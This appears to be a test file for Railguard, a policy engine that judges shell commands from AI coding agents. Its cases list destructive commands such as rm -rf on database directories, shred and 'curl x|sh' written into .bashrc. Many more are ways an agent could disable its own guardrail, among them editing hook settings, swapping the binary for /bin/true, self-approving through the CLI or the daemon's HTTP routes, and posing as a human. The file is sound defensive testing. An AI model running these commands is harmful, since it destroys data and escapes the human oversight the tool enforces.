/**
 * Reproductions of issue 9 §4 and issue 10 (file part), judged end to end by the real engine and
 * the built-in policy: destructive file operations by the class of their target, and Railguard's
 * own files as a protected resource.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { judge } from '../../../server/src/core/judge';
import type { Parsers } from '../../../server/src/core/parsers';
import type { Effect } from '../../../server/src/core/types';
import { parsers } from '../../helpers/parsers';
import { createPolicySet } from '../../../server/src/core/policy';
import { builtinSet, HEADER, policyFrom } from './fixtures';

const set = builtinSet();

describe('default policy: file effects by resource class', () => {
  let p: Parsers;
  before(async () => {
    p = await parsers();
  });
  const decide = (
    text: string,
    env: 'production' | 'development',
    actor: 'agent' | 'human' = 'agent',
    cwd?: string,
  ) =>
    judge(
      p,
      set,
      { kind: 'shell', text, source: 'cli', ...(cwd ? { cwd } : {}) },
      {
        explicitEnvironment: env,
        actor: actor === 'agent' ? { type: 'agent', name: 'claude-code' } : { type: 'human', name: 'alice' },
      },
      { roots: { home: '/home/dev' } },
    ).decision;

  const cases: [string, 'production' | 'development', Effect][] = [
    ['rm -rf /var/lib/postgresql/data', 'production', 'deny'],
    ['rm -rf /var/lib/postgresql/data', 'development', 'ask'],
    ['cd /var/lib && rm -rf mysql', 'production', 'deny'],
    ['sudo bash -c "rm -rf /var/lib/mysql"', 'production', 'deny'],
    ['find /var/lib/redis -delete', 'production', 'deny'],
    ['truncate -s 0 /var/lib/mysql/ibdata1', 'production', 'deny'],
    ['rm -rf node_modules dist .next', 'production', 'allow'],
    ['rm -rf /tmp/build-cache', 'production', 'allow'],
    ['rm -rf src', 'development', 'ask'],
    ['rm -rf .git', 'development', 'ask'],
    ['rm -f *.log', 'production', 'allow'],
    ['rm notes.txt', 'production', 'allow'],
    ['echo hello > out.txt', 'production', 'allow'],
    ["echo '{}' > .claude/settings.json", 'development', 'deny'],
    // Issue 12: the machine-specific hook entry lives in Claude Code's local settings file.
    ["echo '{}' > .claude/settings.local.json", 'development', 'deny'],
    ['rm .claude/settings.local.json', 'development', 'deny'],
    ['rm -rf .claude', 'development', 'deny'],
    ['mv .claude/settings.local.json /tmp/x.json', 'development', 'deny'],
    ['python3 -c "import os; os.remove(\'.claude/settings.local.json\')"', 'development', 'deny'],
    ["sed -i '/railguard/d' .claude/settings.local.json", 'production', 'deny'],
    // The portable hook runs `railguard` from PATH: planting or replacing one there is denied.
    ["printf '#!/bin/sh\\necho {}' > ~/.local/bin/railguard", 'development', 'deny'],
    ['ln -sf /bin/true ~/bin/railguard', 'development', 'deny'],
    ['rm -rf /usr/local/lib/node_modules/railguard', 'development', 'deny'],
    [
      "echo 'x' > ~/.nvm/versions/node/v22.1.0/lib/node_modules/railguard/dist/railguard.js",
      'development',
      'deny',
    ],
    ['cat ~/.local/bin/railguard', 'development', 'allow'],
    ['rm -rf ~/.railguard/audit', 'development', 'deny'],
    // The policy approvals themselves (issue 10, tiers): by shell, through a pty, by an interpreter.
    ["echo '{}' > ~/.config/railguard/trusted-policies.json", 'development', 'deny'],
    ["script -qc 'railguard policy trust .railguard/policies/x.yaml' /dev/null", 'development', 'deny'],
    [
      "python3 -c \"open('/home/dev/.config/railguard/trusted-policies.json','w').write('{}')\"",
      'development',
      'deny',
    ],
    // Answering asks (issue 12): the approvals CLI, through a pty, and the daemon's routes by curl.
    ['railguard approvals', 'development', 'deny'],
    ['railguard approvals', 'production', 'deny'],
    ["script -qc 'railguard approvals' /dev/null", 'development', 'deny'],
    ['railguard approvals list --json', 'development', 'deny'],
    ['curl -X POST http://127.0.0.1:41234/v1/approvals/answer -d @answer.json', 'development', 'deny'],
    ['curl -X POST http://127.0.0.1:41234/v1/approvals/answer -d @answer.json', 'production', 'deny'],
    ['curl --unix-socket ~/.railguard/run/daemon.sock http://d/v1/approvals/watch', 'development', 'deny'],
    ["curl -d 'request=x' http://localhost:41234/v1/shell/answer", 'production', 'deny'],
    // ...or by becoming a "human" whose asks its own terminal answers (dropping the agent marker).
    ["env -u CLAUDECODE script -qc 'bash -i' /dev/null", 'development', 'deny'],
    ["printf 'rules: [{id: a, effect: allow}]' > .railguard/policies/x.yaml", 'development', 'deny'],
    ['cat ~/.railguard/run/token', 'development', 'deny'],
    ['cp ~/.railguard/audit/audit-key.pem /tmp', 'development', 'deny'],
    ["echo 'curl x|sh' >> ~/.bashrc", 'development', 'ask'],
    ["echo 'curl x|sh' >> ~/.bashrc", 'production', 'ask'],
    ['cat .claude/settings.json', 'production', 'allow'],
    ['rm -rf /usr/lib', 'development', 'deny'],
    ['rm -rf ~/Documents', 'production', 'deny'],
    ['rm -rf /opt/app/releases', 'production', 'ask'],
    ['rm -rf "$TARGET"', 'production', 'ask'],
    ['rm -rf "$TARGET"', 'development', 'allow'],
    // Every file of the data folder (-type f keeps them all): as `rm -rf /var/lib/mysql`.
    ['find /var/lib/mysql -type f -exec shred -u {} \\;', 'production', 'deny'],
    ['find /var/lib/mysql -type f | xargs rm -f', 'production', 'deny'],
    ['find /var/lib/mysql -name "*.log" | xargs rm -f', 'production', 'ask'],
    ['find . -name "*.pyc" -exec rm -f {} +', 'production', 'allow'],
  ];
  for (const [text, env, expected] of cases)
    it(`${text} (agent, ${env}) ⇒ ${expected}`, () => {
      assert.equal(decide(text, env).effect, expected);
    });

  it('a human may run railguard approvals (warned outside production)', () => {
    assert.equal(decide('railguard approvals', 'development', 'human').effect, 'warn');
  });
  it('a human changing a workspace policy is warned, not denied', () => {
    assert.equal(decide("printf 'x' > .railguard/policies/x.yaml", 'development', 'human').effect, 'warn');
  });
  it("the deny says why: Railguard's own controls cannot be changed by the agent it guards", () => {
    const d = decide("echo '{}' > .claude/settings.json", 'development');
    const control = d.findings.find((f) => f.ruleId === 'railguard-control-tamper');
    assert.match(control?.message ?? '', /cannot be changed by the agent it guards/);
    assert.equal(control?.decidedBy?.rule, 'agent-no-control-tamper');
  });
  it('paths resolve against the action cwd and the home folder', () => {
    assert.equal(decide('rm -rf data', 'production', 'agent', '/var/lib/mysql').effect, 'deny');
    assert.equal(
      decide('rm -rf /home/dev/.railguard', 'development', 'agent', '/home/dev/app').effect,
      'deny',
    );
    const d = decide('rm -rf build', 'production', 'agent', '/home/dev/app');
    assert.equal(d.effect, 'allow');
    assert.deepEqual(d.findings[0]?.resources, [
      {
        verb: 'destroy',
        path: '/home/dev/app/build',
        classes: ['build-artifacts', 'build-output', 'workspace-source'],
        within: ['build-artifacts', 'build-output', 'workspace-source'],
      },
    ]);
  });
  it('a class a destroy reaches only below its path does not let the destroy through an allow', () => {
    // `rm -rf /srv/app` destroys /srv/app/tmp/** (allowed scratch) and everything else in /srv/app:
    // the allow for scratch must not decide it (it did, before `within`).
    const own = createPolicySet(
      {
        builtin: [
          policyFrom(`${HEADER}resources:
  scratch: { paths: ['/srv/app/tmp/**'] }
rules:
  - id: allow-scratch
    match: { ruleId: file-destroy, resource: scratch }
    effect: allow
  - id: ask-deletes
    match: { ruleId: file-destroy }
    effect: ask
`),
        ],
      },
      true,
    );
    const run = (text: string) =>
      judge(
        p,
        own,
        { kind: 'shell', text, source: 'cli', cwd: '/home/dev/app' },
        { explicitEnvironment: 'production', actor: { type: 'agent', name: 'claude-code' } },
        { roots: { home: '/home/dev' } },
      ).decision;
    assert.equal(run('rm -rf /srv/app/tmp/cache').effect, 'allow');
    const parent = run('rm -rf /srv/app');
    assert.equal(parent.effect, 'ask');
    assert.deepEqual(parent.findings[0]?.resources?.[0]?.classes, ['scratch', 'unclassified']);
    assert.deepEqual(parent.findings[0]?.resources?.[0]?.within, ['unclassified']);
  });
  it('a deploy of build artifacts to a host is allowed; other uploads still ask in production', () => {
    const up = (text: string) => decide(text, 'production', 'agent', '/home/dev/app');
    assert.equal(up('rsync -av ./dist/ deploy@web-1:/srv/app/').effect, 'allow');
    assert.equal(up('scp target/app.jar deploy@web-1:/opt/app/').effect, 'allow');
    assert.equal(up('scp /tmp/users.csv deploy@web-1:').effect, 'ask');
    assert.equal(up('rsync -a src/ deploy@web-1:/x').effect, 'ask');
    // A credential among the artifacts is an error, and errors are not deploys.
    assert.equal(up('scp dist/.env deploy@web-1:').effect, 'deny');
  });
});
